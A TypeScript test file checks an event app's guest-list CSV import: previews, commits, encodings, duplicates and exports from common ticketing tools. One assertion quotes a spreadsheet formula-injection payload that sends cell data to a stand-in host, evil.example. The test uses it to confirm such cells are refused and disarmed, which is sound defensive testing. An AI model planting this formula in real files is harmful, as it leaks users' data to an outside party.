import { readFileSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tickets } from '@edgewise/db';
import type { GuestListChanged, GuestListEntry, ImportColumn, ImportPreview, ImportRow } from '@edgewise/shared';
import { aGuest, anOpenEvent, anOrganiser, type Organiser } from '../fixtures/builders';
import { aSocket, dbKinds, startServer, type TestServer } from '../fixtures/server';

const fixture = (name: string) => readFileSync(new URL(`../fixtures/csv/${name}`, import.meta.url));

describe.each(dbKinds)('guest-list import (%s)', (kind) => {
  let sut: TestServer;
  let org: Organiser;

  beforeAll(async () => {
    sut = await startServer(kind);
    org = await anOrganiser(sut);
  });
  afterAll(async () => {
    await sut?.close();
  });

  const upload = (path: string, csv: Buffer | string) =>
    org.agent.post(path).set('x-csrf-token', org.csrf).set('content-type', 'text/csv').send(Buffer.isBuffer(csv) ? csv : Buffer.from(csv, 'utf8'));
  const preview = (eventId: string, csv: Buffer | string) => upload(`/api/events/${eventId}/attendees/import/preview`, csv);
  const commit = (eventId: string, csv: Buffer | string, skipDuplicates?: boolean) =>
    upload(`/api/events/${eventId}/attendees/import${skipDuplicates === undefined ? '' : `?skipDuplicates=${skipDuplicates}`}`, csv);
  const guestList = async (eventId: string) => (await org.get(`/api/events/${eventId}/attendees`)).body as GuestListEntry[];

  describe('preview', () => {
    it('gives each row of a messy export its verdict and writes nothing', async () => {
      const eventId = await anOpenEvent(org);
      const existing = await aGuest(org, eventId, { name: 'Existing Person', email: 'existing@example.org', company: 'New Co', role: 'Partner' });

      const res = await preview(eventId, fixture('mixed.csv'));
      expect(res.status).toBe(200);
      const body = res.body as ImportPreview;
      expect(body).toMatchObject({ encoding: 'utf-8', bom: true, delimiter: ',' });
      expect(body.columns.map((c) => [c.header, c.field])).toEqual([
        ['Full Name', 'name'],
        ['E-mail', 'email'],
        ['Organisation', 'company'],
        ['Job Title', 'role'],
        ['First time', 'firstTime'],
        ['Host', 'host'],
        ['Dietary', null],
      ]);

      const verdicts = body.rows.map((r) => [r.line, r.status, r.problems.map((p) => `${p.field}:${p.code}`).join(' ')]);
      expect(verdicts).toEqual([
        [2, 'add', ''],
        [3, 'add', ''], // its quoted Dietary cell runs onto line 4
        [5, 'error', 'name:formula_injection'],
        [6, 'error', 'name:required'],
        [7, 'error', 'email:invalid_email'],
        [8, 'duplicate', 'email:duplicate_in_file'],
        [9, 'update', ''],
        [10, 'add', ''],
        [11, 'error', 'name:too_long'],
        [12, 'error', 'company:formula_injection'],
        [13, 'add', ''],
        [14, 'error', 'firstTime:invalid_boolean'],
        [15, 'error', 'row:too_many_cells'],
        [16, 'add', ''],
      ]);
      expect(body.summary).toEqual({ add: 5, update: 1, unchanged: 0, error: 7, duplicate: 1 });

      const row = (line: number) => body.rows.find((r) => r.line === line);
      // Quoted commas and doubled quotes come through as written; yes/no columns become booleans.
      expect(row(2)?.data).toEqual({ name: 'Ana Sousa', email: 'ana@example.org', company: 'Tidewater, Lda', role: 'Designer', firstTime: true, host: false });
      expect(row(3)?.data).toMatchObject({ name: 'Bruno "Bru" Lima', firstTime: false, host: true });
      expect(row(8)?.problems[0]?.message).toBe('same email as line 2');
      expect(row(9)).toMatchObject({ attendeeId: existing.id, changes: ['company', 'role'] });
      expect(row(5)?.problems[0]?.message).toMatch(/= \+ - @ are refused/);
      expect(row(10)?.data.name).toHaveLength(120);
      expect(row(13)?.data).toMatchObject({ name: 'Дмитрий Иванов', company: 'Яндекс', firstTime: true });

      expect(await guestList(eventId)).toHaveLength(1);
    });

    it('reads first and last name columns and semicolon-separated files', async () => {
      const eventId = await anOpenEvent(org);
      const res = await preview(eventId, fixture('semicolon-first-last.csv'));
      expect(res.status).toBe(200);
      expect(res.body.delimiter).toBe(';');
      expect(res.body.rows.map((r: ImportRow) => r.data.name)).toEqual(['Nora Silva', 'Otto']);
      expect(res.body.rows[0].data.company).toBe('Atlântico, SA');
    });

    it('converts a Latin-1 file and shows the converted names', async () => {
      const eventId = await anOpenEvent(org);
      const res = await preview(eventId, fixture('latin1.csv'));
      expect(res.status).toBe(200);
      expect(res.body.encoding).toBe('windows-1252');
      expect(res.body.rows.map((r: ImportRow) => [r.data.name, r.data.company])).toEqual([
        ['José Müller', 'Café Société'],
        ['François Ørsted', 'Ærø'],
      ]);
    });

    it('refuses unreadable files with csv_malformed and says where', async () => {
      const eventId = await anOpenEvent(org);
      const unclosed = await preview(eventId, fixture('unclosed-quote.csv'));
      expect(unclosed.status).toBe(400);
      expect(unclosed.body.error).toMatchObject({ code: 'csv_malformed', details: { line: 3 } });
      expect(unclosed.body.error.message).toMatch(/^Line 3:/);

      const noName = await preview(eventId, fixture('no-name-column.csv'));
      expect(noName.status).toBe(400);
      expect(noName.body.error.code).toBe('csv_malformed');
      expect(noName.body.error.message).toContain('needs a name column');
      // ...with the columns it found, so the organiser can map the one that holds names.
      expect(noName.body.error.details.columns.map((c: ImportColumn) => c.header)).toEqual(['email', 'company']);

      for (const empty of ['', '\uFEFF', '\r\n\r\n']) {
        const res = await preview(eventId, empty);
        expect(res.status).toBe(400);
        expect(res.body.error.code).toBe('csv_malformed');
      }
    });

    it('refuses more than 5000 rows', async () => {
      const eventId = await anOpenEvent(org);
      const rows = Array.from({ length: 5001 }, (_, i) => `Guest ${i},guest${i}@example.org`);
      const res = await preview(eventId, ['name,email', ...rows].join('\n'));
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('csv_malformed');
      expect(res.body.error.message).toContain('5000');
    });

    it('answers 404 for an unknown event and 403 without the CSRF token', async () => {
      const missing = await preview(randomUUID(), fixture('clean-bom-crlf.csv'));
      expect(missing.status).toBe(404);
      const eventId = await anOpenEvent(org);
      const noCsrf = await org.agent.post(`/api/events/${eventId}/attendees/import`).set('content-type', 'text/csv').send(fixture('clean-bom-crlf.csv'));
      expect(noCsrf.status).toBe(403);
      expect(await guestList(eventId)).toEqual([]);
    });
  });

  describe('files from where guest lists live', () => {
    const columnsOf = (body: ImportPreview) => body.columns.filter((c) => c.field).map((c) => `${c.header} -> ${c.field}`);
    const rowsOf = (body: ImportPreview) => body.rows.map((r) => [r.status, r.data.name, r.data.email ?? null, r.data.company ?? null, r.data.role ?? null]);

    it("reads Eventbrite's attendee report", async () => {
      const eventId = await anOpenEvent(org);
      const body = (await preview(eventId, fixture('eventbrite.csv'))).body as ImportPreview;
      expect(columnsOf(body)).toEqual(['First Name -> firstName', 'Last Name -> lastName', 'Email -> email', 'Job Title -> role', 'Company -> company']);
      expect(rowsOf(body)).toEqual([
        ['add', 'Amélie Durand', 'amelie@example.org', 'Atelier Nord, SARL', 'Product Designer'],
        ['add', 'Kwame Mensah', 'kwame@example.org', 'Kente Labs', 'CTO'],
      ]);
    });

    it("reads pretix's semicolon order export, taking the attendee's email over the buyer's", async () => {
      const eventId = await anOpenEvent(org);
      const body = (await preview(eventId, fixture('pretix-semicolon.csv'))).body as ImportPreview;
      expect(body.delimiter).toBe(';');
      expect(columnsOf(body)).toEqual([
        'Attendee name -> name',
        'Attendee name: Given name -> firstName',
        'Attendee name: Family name -> lastName',
        'Attendee email -> email',
        'Company -> company',
      ]);
      expect(rowsOf(body)).toEqual([
        ['add', 'Jürgen Weiß', 'juergen@example.org', 'Weiß & Söhne GmbH', null],
        ['add', 'Lena Vogel', 'lena@example.org', 'Weiß & Söhne GmbH', null],
      ]);
    });

    it("reads Luma's guest export", async () => {
      const eventId = await anOpenEvent(org);
      const body = (await preview(eventId, fixture('luma.csv'))).body as ImportPreview;
      expect(columnsOf(body)).toEqual(['name -> name', 'first_name -> firstName', 'last_name -> lastName', 'email -> email']);
      expect(rowsOf(body)).toEqual([
        ['add', 'Priya Nair', 'priya@example.org', null, null],
        ['add', 'Tomás Ortega', 'tomas@example.org', null, null],
      ]);
    });

    it("reads Meetup's tab-separated RSVP list (names without emails)", async () => {
      const eventId = await anOpenEvent(org);
      const body = (await preview(eventId, fixture('meetup-tab.csv'))).body as ImportPreview;
      expect(body.delimiter).toBe('\t');
      expect(columnsOf(body)).toEqual(['Name -> name', 'Title -> role']);
      expect(body.rows.map((r) => [r.status, r.data.name])).toEqual([
        ['add', 'Siobhán Kelly'],
        ['add', 'Yusuf Demir'],
      ]);
    });

    it("reads a Google Forms sheet, with the form's own question mapped by hand", async () => {
      const eventId = await anOpenEvent(org);
      const auto = (await preview(eventId, fixture('google-forms.csv'))).body as ImportPreview;
      expect(columnsOf(auto)).toEqual(['Email Address -> email', 'Full name -> name', 'Company -> company', 'Job Title -> role']);
      const res = await upload(`/api/events/${eventId}/attendees/import/preview?mapping=5:firstTime,0:ignore`, fixture('google-forms.csv'));
      expect(res.status).toBe(200);
      const body = res.body as ImportPreview;
      expect(body.columns[5]).toEqual({ index: 5, header: 'Is this your first time at one of our events?', field: 'firstTime', by: 'manual' });
      expect(body.rows.map((r) => [r.data.name, r.data.firstTime])).toEqual([
        ['María José Pérez', true],
        ['Hiro Tanaka', false],
      ]);
      const imported = await upload(`/api/events/${eventId}/attendees/import?mapping=5:firstTime`, fixture('google-forms.csv'));
      expect(imported.status).toBe(201);
      expect((await guestList(eventId)).map((g) => [g.name, g.firstTime, g.role])).toEqual([
        ['Hiro Tanaka', false, 'Engineer'],
        ['María José Pérez', true, 'Founder'],
      ]);

      for (const bad of ['5:nickname', 'x:name', '5:name,6', '99:name']) {
        const refused = await upload(`/api/events/${eventId}/attendees/import/preview?mapping=${encodeURIComponent(bad)}`, fixture('google-forms.csv'));
        expect(refused.status).toBe(400);
      }
    });

    it('converts a Windows-1252 file (curly quotes, euro sign) and an Excel UTF-16 file', async () => {
      const eventId = await anOpenEvent(org);
      const cp = (await preview(eventId, fixture('windows-1252.csv'))).body as ImportPreview;
      expect(cp).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
      expect(rowsOf(cp)).toEqual([
        ['add', 'Renée O’Connor', 'renee@example.org', 'Café “Le Zèbre”', 'Sommelière'],
        ['add', 'Zoë Müller', 'zoe@example.org', 'Straße € Partner', 'CFO'],
      ]);
      const u16 = (await preview(eventId, fixture('excel-utf16.csv'))).body as ImportPreview;
      expect(u16).toMatchObject({ encoding: 'utf-16le', bom: true, delimiter: '\t' });
      expect(rowsOf(u16)).toEqual([
        ['add', '山田 太郎', 'yamada@example.org', 'Sakura KK', 'CEO'],
        ['add', 'Øystein Løvland', 'oystein@example.org', 'Fjord AS', 'Buyer'],
      ]);
      const res = await commit(eventId, fixture('windows-1252.csv'));
      expect(res.status).toBe(201);
      expect((await guestList(eventId)).map((g) => g.name)).toEqual(['Renée O’Connor', 'Zoë Müller']);
    });
  });

  describe('commit', () => {
    it('imports nothing at all when any row is broken, and answers with the preview', async () => {
      const eventId = await anOpenEvent(org);
      await aGuest(org, eventId, { email: 'existing@example.org' });
      const before = await guestList(eventId);

      for (const skip of [undefined, true]) {
        const res = await commit(eventId, fixture('mixed.csv'), skip);
        expect(res.status).toBe(422);
        expect(res.body.error.code).toBe('csv_has_errors');
        expect(res.body.error.details.summary).toEqual({ add: 5, update: 1, unchanged: 0, error: 7, duplicate: 1 });
        expect(res.body.error.details.rows).toHaveLength(14);
      }
      const after = await guestList(eventId);
      expect(after.length).toBe(before.length);
      expect(after).toEqual(before);
    });

    it('imports the valid rows and skips the broken ones when told, and hands the broken ones back with their reasons', async () => {
      const eventId = await anOpenEvent(org);
      await aGuest(org, eventId, { name: 'Existing Person', email: 'existing@example.org', company: 'New Co' });

      const res = await upload(`/api/events/${eventId}/attendees/import?skipInvalid=true`, fixture('mixed.csv'));
      expect(res.status).toBe(201);
      expect(res.body).toEqual({ added: 5, updated: 1, unchanged: 0, skippedDuplicates: 1, skippedErrors: 7 });
      const list = await guestList(eventId);
      expect(list).toHaveLength(6);
      expect(list.find((g) => g.email === 'existing@example.org')).toMatchObject({ name: 'Existing Person', company: 'Old Co', role: 'Advisor' });

      const broken = await upload(`/api/events/${eventId}/attendees/import/broken-rows.csv`, fixture('mixed.csv'));
      expect(broken.status).toBe(200);
      expect(broken.headers['content-type']).toMatch(/^text\/csv/);
      expect(broken.headers['content-disposition']).toContain('broken-rows.csv');
      const text = broken.text;
      expect(text.startsWith('\uFEFF"Line","Full Name","E-mail","Organisation","Job Title","First time","Host","Dietary","Reason"\r\n')).toBe(true);
      const lines = text.slice(1).trimEnd().split('\r\n');
      expect(lines).toHaveLength(1 + 8);
      // The formula row comes back disarmed (the exports' rule), with its reason in words.
      expect(lines[1]).toBe(
        `5,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","mallory@example.org","Evil Co","CEO","no","no","","Name: cells starting with = + - @ are refused: spreadsheets run them as formulas"`,
      );
      expect(lines[4]).toBe('8,"Ana Again","ANA@Example.org","Tidewater","Designer","no","no","","Email: same email as line 2"');
      expect(text).toContain('"First time: ""maybe"" is not yes or no"');
    });

    it('adds every row of a clean file (BOM, CRLF, quoted commas) with a ticket each, in one go', async () => {
      const eventId = await anOpenEvent(org);
      const socket = await aSocket(sut, { cookie: org.cookie });
      const changes: GuestListChanged[] = [];
      socket.on('guestlist:changed', (p) => changes.push(p));
      await socket.emitWithAck('event:subscribe', { eventId });
      try {
        const res = await commit(eventId, fixture('clean-bom-crlf.csv'));
        expect(res.status).toBe(201);
        expect(res.body).toEqual({ added: 3, updated: 0, unchanged: 0, skippedDuplicates: 0, skippedErrors: 0 });

        const list = await guestList(eventId);
        expect(list.map((g) => g.name)).toEqual(['Beatriz Costa', 'Chen Wei', 'O\'Brien <Dev> & "Sons"']);
        expect(list[1]).toMatchObject({ email: 'chen@example.org', company: 'Tide, Inc.', role: 'Investor', firstTime: false, host: true, source: 'guest_list' });
        expect(list[0]).toMatchObject({ firstTime: true, host: false });
        for (const g of list) {
          expect(g).toMatchObject({ ticketRevoked: false, presence: 'not_arrived' });
          const ticket = await org.get(`/api/events/${eventId}/attendees/${g.id}/ticket`);
          expect(ticket.status).toBe(200);
          expect(ticket.body.secret).toMatch(/^[A-Za-z0-9_-]{24}$/);
        }
        const stored = await sut.database.db.select().from(tickets).where(eq(tickets.eventId, eventId));
        expect(new Set(stored.map((t) => t.secret)).size).toBe(3);

        await waitFor(() => changes.length > 0);
        expect(changes[0]).toEqual({ eventId, version: sut.clock() });
      } finally {
        socket.close();
      }
    });

    it("brings intents from a registration form's answers (looking for, offering, interests), checked against the event's topics, before the door opens", async () => {
      const eventId = await anOpenEvent(org, { template: 'startup-night', settings: { interestTags: ['AI', 'Climate'] } });
      const known = await aGuest(org, eventId, { name: 'Kim Lee', email: 'kim@example.org' });
      const said = await org.put(`/api/events/${eventId}/attendees/${known.id}/intent`, { seeks: ['jobs'], offers: [], interests: [], hostOptIn: false, showOnScreen: false });
      expect(said.status).toBe(200);
      const csv = [
        'name,email,Looking for,Offering,Interests',
        'Ana Sousa,ana@example.org,Investment|beta testers,"I\'m hiring",AI|climate',
        'Bo Chen,bo@example.org,,I invest,',
        'Cy Park,cy@example.org,Knitting,,',
        // Kim stated her own intent: the file's does not replace it.
        'Kim Lee,kim@example.org,Investment,,',
      ].join('\n');
      const checked = (await preview(eventId, csv)).body as ImportPreview;
      expect(checked.rows.map((r) => r.status)).toEqual(['add', 'add', 'error', 'unchanged']);
      expect(checked.rows[0]?.intent).toMatchObject({ lookingFor: ['Investment', 'Beta testers'], offering: ["I'm hiring"], interests: ['AI', 'Climate'] });
      expect(checked.rows[2]?.problems).toEqual([{ field: 'seeks', code: 'unknown_tag', message: '"Knitting" is not one of this event\'s topics' }]);

      const res = await upload(`/api/events/${eventId}/attendees/import?skipInvalid=true`, csv);
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ added: 2, skippedErrors: 1 });
      const list = await guestList(eventId);
      const intentOf = async (name: string) => (await org.get(`/api/events/${eventId}/attendees/${list.find((g) => g.name === name)?.id}/intent`)).body;
      expect(await intentOf('Ana Sousa')).toMatchObject({ seeks: ['investment', 'beta-testers'], offers: ['jobs'], interests: ['AI', 'Climate'], showOnScreen: false });
      expect(await intentOf('Bo Chen')).toMatchObject({ seeks: [], offers: ['investment'] });
      expect(await intentOf('Kim Lee')).toMatchObject({ seeks: ['jobs'], version: 1 });
    });

    it('leaves duplicates out only when told to', async () => {
      const eventId = await anOpenEvent(org);
      const refused = await commit(eventId, fixture('with-duplicates.csv'));
      expect(refused.status).toBe(422);
      expect(refused.body.error.details.summary).toEqual({ add: 3, update: 0, unchanged: 0, error: 0, duplicate: 1 });
      expect(await guestList(eventId)).toEqual([]);

      const explicitNo = await commit(eventId, fixture('with-duplicates.csv'), false);
      expect(explicitNo.status).toBe(422);

      const res = await commit(eventId, fixture('with-duplicates.csv'), true);
      expect(res.status).toBe(201);
      expect(res.body).toEqual({ added: 3, updated: 0, unchanged: 0, skippedDuplicates: 1, skippedErrors: 0 });
      // The first line with an email wins; the later repeat is the one skipped.
      expect((await guestList(eventId)).map((g) => g.name)).toEqual(['Hugo Reis', 'Inês Faria', 'Joana Pinto']);
    });

    it('updates guests matched by email on a re-import, and leaves unchanged ones alone', async () => {
      const eventId = await anOpenEvent(org);
      expect((await commit(eventId, fixture('clean-bom-crlf.csv'))).status).toBe(201);
      const before = await guestList(eventId);
      const again = await preview(eventId, fixture('clean-bom-crlf.csv'));
      expect(again.body.summary).toEqual({ add: 0, update: 0, unchanged: 3, error: 0, duplicate: 0 });

      const changed = 'email,name,company,host\r\nchen@example.org,Chen Wei,Tide Capital,no\r\nnew@example.org,Nova Neves,,\r\n';
      const shown = await preview(eventId, changed);
      expect(shown.body.rows.map((r: ImportRow) => [r.status, r.changes])).toEqual([
        ['update', ['company', 'host']],
        ['add', undefined],
      ]);
      const res = await commit(eventId, changed);
      expect(res.body).toEqual({ added: 1, updated: 1, unchanged: 0, skippedDuplicates: 0, skippedErrors: 0 });
      const after = await guestList(eventId);
      expect(after).toHaveLength(4);
      const chen = after.find((g) => g.email === 'chen@example.org');
      // Same guest, same ticket: only what the file says changed.
      expect(chen).toMatchObject({ id: before.find((g) => g.email === 'chen@example.org')?.id, company: 'Tide Capital', host: false, role: 'Investor' });
      expect(chen?.ticketIssuedAt).toBe(before.find((g) => g.email === 'chen@example.org')?.ticketIssuedAt);
    });

    it('imports a full-size list of 5000 rows atomically', async () => {
      const eventId = await anOpenEvent(org);
      const rows = Array.from({ length: 5000 }, (_, i) => `Guest ${String(i).padStart(4, '0')},guest${i}@example.org,Company ${i % 37}`);
      const res = await commit(eventId, ['name,email,company', ...rows].join('\r\n'));
      expect(res.status).toBe(201);
      expect(res.body).toEqual({ added: 5000, updated: 0, unchanged: 0, skippedDuplicates: 0, skippedErrors: 0 });
      const stored = await sut.database.db.select({ id: tickets.id }).from(tickets).where(eq(tickets.eventId, eventId));
      expect(stored).toHaveLength(5000);
    });
  });
});

async function waitFor(check: () => boolean, ms = 2000) {
  const until = Date.now() + ms;
  while (!check()) {
    if (Date.now() > until) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 10));
  }
}
